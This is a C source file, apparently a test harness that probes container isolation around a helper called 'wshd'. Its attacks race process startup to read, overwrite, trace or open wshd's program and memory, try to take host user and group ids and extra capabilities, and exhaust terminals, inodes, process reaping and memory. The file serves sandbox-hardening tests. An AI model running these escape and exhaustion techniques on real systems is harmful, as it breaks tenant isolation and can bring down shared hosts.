#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "probe.h"

// Whether a link or a list of mappings speaks of wshd. Its program is a file without a name
// (memfd_create(2)), or has that name.
static int speaks_of_wshd(const char* text) {
  return strstr(text, "wshd") != NULL || strstr(text, "memfd:") != NULL;
}

// Of a file below /proc/PID. -1: it cannot be opened or read.
static int shows_wshd(const char* pid, const char* file) {
  char path[64], text[4096];
  snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  // The file stays with the memory that it was opened for, whatever is executed meanwhile.
  ssize_t n = read(fd, text, sizeof(text) - 1);
  close(fd);
  if (n < 0) return -1;
  text[n] = 0;
  return speaks_of_wshd(text);
}

static int link_shows_wshd(const char* pid) {
  char path[64], target[PATH_MAX];
  snprintf(path, sizeof(path), "/proc/%s/exe", pid);
  ssize_t n = readlink(path, target, sizeof(target) - 1);
  if (n < 0) return -1;
  target[n] = 0;
  return speaks_of_wshd(target);
}

// A process whose real user is the caller may be looked at, unless it is wshd on its way to a job
// (proc(5): everybody may read status).
static int is_ours(const char* pid) {
  char path[64], line[256];
  snprintf(path, sizeof(path), "/proc/%s/status", pid);
  FILE* status = fopen(path, "r");
  if (status == NULL) return 0;
  unsigned uid = ~0u;
  while (fgets(line, sizeof(line), status) != NULL && sscanf(line, "Uid: %u", &uid) != 1) {
  }
  fclose(status);
  return uid == getuid();
}

// A program's file, held over the end of its process, written when nobody executes it any more.
static int overwrite_program(const char* pid) {
  char path[64], again[64], before[PATH_MAX];
  snprintf(path, sizeof(path), "/proc/%s/exe", pid);
  int held = open(path, O_PATH);
  if (held < 0) return REFUSED;
  snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
  ssize_t n = readlink(again, before, sizeof(before) - 1);
  before[n > 0 ? n : 0] = 0;
  // The container's own programs are its own affair.
  if (!speaks_of_wshd(before)) {
    close(held);
    return REFUSED;
  }
  int fd = open(again, O_WRONLY | O_TRUNC);
  for (int i = 0; fd < 0 && i < 10; ++i) {
    usleep(100);
    fd = open(again, O_WRONLY | O_TRUNC);
  }
  close(held);
  if (fd < 0) return REFUSED;
  return write(fd, "#!/own/program\n", 15) > 0 ? worked("overwrote wshd's file") : REFUSED;
}

static int trace(const char* pid) {
  int number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, NULL, NULL) < 0) return REFUSED;
  int was_wshd = link_shows_wshd(pid) == 1;
  // Only what has stopped can be let go.
  ptrace(PTRACE_INTERRUPT, number, NULL, NULL);
  int status;
  waitpid(number, &status, __WALL);
  ptrace(PTRACE_DETACH, number, NULL, NULL);
  return was_wshd ? worked("traced a process that was still wshd") : REFUSED;
}

static int look_into(const char* pid) {
  char path[64];
  static const char* const LINKS[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "ns/mnt"};
  // A process that executes wshd hides all of these; afterwards they are the job's own.
  for (size_t i = 0; i < sizeof(LINKS) / sizeof(LINKS[0]); ++i) {
    snprintf(path, sizeof(path), "/proc/%s/%s", pid, LINKS[i]);
    char target[PATH_MAX];
    if (readlink(path, target, sizeof(target)) > 0 && link_shows_wshd(pid) == 1)
      return worked(path);
  }
  snprintf(path, sizeof(path), "/proc/%s/mem", pid);
  int memory = open(path, O_RDWR);
  if (memory < 0) return REFUSED;
  int result = shows_wshd(pid, "maps") == 1 ? worked("opened wshd's memory") : REFUSED;
  close(memory);
  return result;
}

// Attacks every process that comes, until the file `stop` is there. Prints how many it saw while
// they could not be looked at, which is what a job is between fork and exec.
static int siege(const char* stop) {
  char own[16];
  snprintf(own, sizeof(own), "%d", getpid());
  unsigned long hidden = 0, rounds = 0;
  for (; access(stop, F_OK) != 0; ++rounds) {
    DIR* directory = opendir("/proc");
    if (directory == NULL) return not_attempted("/proc");
    for (struct dirent* e; (e = readdir(directory)) != NULL;) {
      const char* pid = e->d_name;
      if (!isdigit(pid[0]) || strcmp(pid, own) == 0) continue;
      int shown = link_shows_wshd(pid);
      if (shown == 1) return worked("read the link to wshd's program");
      if (shown < 0 && errno == EACCES && strcmp(pid, "1") != 0 && is_ours(pid)) ++hidden;
      if (shows_wshd(pid, "maps") == 1) return worked("read wshd's mappings");
      if (overwrite_program(pid) != REFUSED || look_into(pid) != REFUSED) return WORKED;
      // Its own family it would only disturb.
      if (atoi(pid) > atoi(own) && trace(pid) != REFUSED) return WORKED;
    }
    closedir(directory);
  }
  printf("hidden %lu rounds %lu\n", hidden, rounds);
  return REFUSED;
}

// Groups that the container has no id for, for root; any, for others (user_namespaces(7)).
static int setgroups_(const char* unused) {
  (void)unused;
  gid_t none[1] = {0};
  if (geteuid() != 0) {
    int result = denied(syscall(SYS_setgroups, 0, NULL), "setgroups to none");
    if (result != REFUSED) return result;
    result = denied(syscall(SYS_setgroups, 1, none), "setgroups to root's");
    if (result != REFUSED) return result;
    result = denied(syscall(SYS_setresgid, 0, 0, 0), "setresgid");
    if (result != REFUSED) return result;
    return denied(syscall(SYS_setresuid, 0, 0, 0), "setresuid");
  }
  // What lies behind the container's ids, and the host's as seen from nowhere.
  static const gid_t OUTSIDE[] = {65536, 100000, 1000000, 0x7fffffff, 0xfffffffe};
  for (size_t i = 0; i < sizeof(OUTSIDE) / sizeof(OUTSIDE[0]); ++i) {
    if (syscall(SYS_setgroups, 1, &OUTSIDE[i]) == 0) return worked("setgroups to the host's group");
    refused("setgroups");
    if (syscall(SYS_setresuid, OUTSIDE[i], OUTSIDE[i], OUTSIDE[i]) == 0)
      return worked("setresuid to the host's user");
    refused("setresuid");
  }
  // With it, maps could be written again.
  int fd = open("/proc/self/uid_map", O_WRONLY);
  if (fd >= 0 && write(fd, "0 0 1\n", 6) > 0) return worked("wrote uid_map");
  refused("uid_map");
  fd = open("/proc/self/setgroups", O_WRONLY);
  if (fd >= 0 && write(fd, "deny", 4) > 0) return worked("wrote setgroups");
  return refused("/proc/self/setgroups");
}

// More than the bounding set allows, by every way that there is.
static int inheritable(const char* unused) {
  (void)unused;
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2];
  if (syscall(SYS_capget, &header, data) < 0) return not_attempted("capget");
  for (int cap = 0; cap <= CAP_LAST_CAP; ++cap) {
    int has = data[cap / 32].permitted >> (cap % 32) & 1;
    if (has) continue;
    struct __user_cap_data_struct more[2];
    memcpy(more, data, sizeof(more));
    more[cap / 32].inheritable |= 1u << (cap % 32);
    if (syscall(SYS_capset, &header, more) == 0) return worked("inheritable");
    memcpy(more, data, sizeof(more));
    more[cap / 32].permitted |= 1u << (cap % 32);
    if (syscall(SYS_capset, &header, more) == 0) return worked("permitted");
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0) == 0) return worked("ambient");
    if (prctl(PR_CAPBSET_READ, cap, 0, 0, 0) == 1) return worked("bounding set");
  }
  if (prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0) return worked("no_new_privs");
  return refused_because("no capability to be had");
}

// Not an attack: for the test to look at.
static int print_status(const char* unused) {
  (void)unused;
  FILE* status = fopen("/proc/self/status", "r");
  if (status == NULL) return not_attempted("/proc/self/status");
  char line[4096];
  while (fgets(line, sizeof(line), status) != NULL)
    fputs(line, stdout);
  fclose(status);
  return REFUSED;
}

// Directories within each other, as many as `depth`, from the working directory on.
static int dig(const char* depth) {
  for (int i = atoi(depth); i > 0; --i) {
    if (mkdir("d", 0700) < 0 || chdir("d") < 0) return not_attempted("mkdir");
  }
  int fd = open("f", O_CREAT | O_WRONLY, 0600);
  return fd >= 0 ? REFUSED : not_attempted("a file at the bottom");
}

// Holds as many pseudo terminals as there are, in processes of its own, until `stop` is there.
static int ptys(const char* stop) {
  unsigned count = 0;
  for (int process = 0; process < 32; ++process) {
    int ready[2];
    if (pipe(ready) < 0) return not_attempted("pipe");
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      unsigned own = 0;
      while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        ++own;
      if (write(ready[1], &own, sizeof(own)) < 0) _exit(1);
      while (access(stop, F_OK) != 0)
        usleep(20000);
      _exit(0);
    }
    unsigned own = 0;
    close(ready[1]);
    if (read(ready[0], &own, sizeof(own)) != sizeof(own)) own = 0;
    close(ready[0]);
    count += own;
    if (own == 0) break;
  }
  printf("ptys %u\n", count);
  FILE* tell = fopen("/tmp/ptys", "w");
  if (tell == NULL) return not_attempted("/tmp/ptys");
  fprintf(tell, "%u\n", count);
  fclose(tell);
  while (access(stop, F_OK) != 0)
    usleep(20000);
  return REFUSED;
}

// Makes files until it is refused or has made `most`.
static int inodes(const char* most) {
  int i = 0;
  for (; i < atoi(most); ++i) {
    char path[32];
    snprintf(path, sizeof(path), "inode-%d", i);
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) {
      refused("open");
      break;
    }
    close(fd);
  }
  printf("inodes %d\n", i);
  return REFUSED;
}

// Leaves process 1 as many children as `count` that live, all of which it has to look at for each
// that has ended, and some that make it children that end at once: there is always one more.
static int ends(const char* count) {
  for (int i = atoi(count); i > 0; --i) {
    pid_t pid = fork();
    if (pid < 0) return not_attempted("fork");
    if (pid > 0) continue;
    while (i > 30)
      pause();
    while (getppid() != 1)
      usleep(1000);
    for (;;)
      if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0) _exit(0);
  }
  return REFUSED;
}

// Holds memory that cannot be reclaimed, and touches pages of a large file without data, in any
// order: as fast as the kernel takes them away they are back.
static int refill(const char* file) {
  const size_t held = 300 << 20, size = (size_t)2000 << 20;
  void* memory =
      mmap(NULL, held, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
  int fd = open(file, O_RDWR | O_CREAT, 0600);
  if (memory == MAP_FAILED || fd < 0 || ftruncate(fd, size) < 0) return not_attempted("memory");
  volatile char* pages = mmap(NULL, size, PROT_READ, MAP_SHARED, fd, 0);
  if (pages == MAP_FAILED) return not_attempted("mmap");
  madvise((void*)pages, size, MADV_RANDOM);
  for (int i = 0; i < 20; ++i) {
    if (fork() != 0) continue;
    for (unsigned place = i;; place = place * 1103515245 + 12345)
      (void)pages[(size_t)(place >> 8) * 4096 % size];
  }
  for (;;)
    pause();
}

const struct attack JOINING_ATTACKS[] = {
    {"siege", siege},
    {"setgroups", setgroups_},
    {"inheritable", inheritable},
    {"print-status", print_status},
    {"dig", dig},
    {"ptys", ptys},
    {"inodes", inodes},
    {"ends", ends},
    {"refill", refill},
    {0},
};
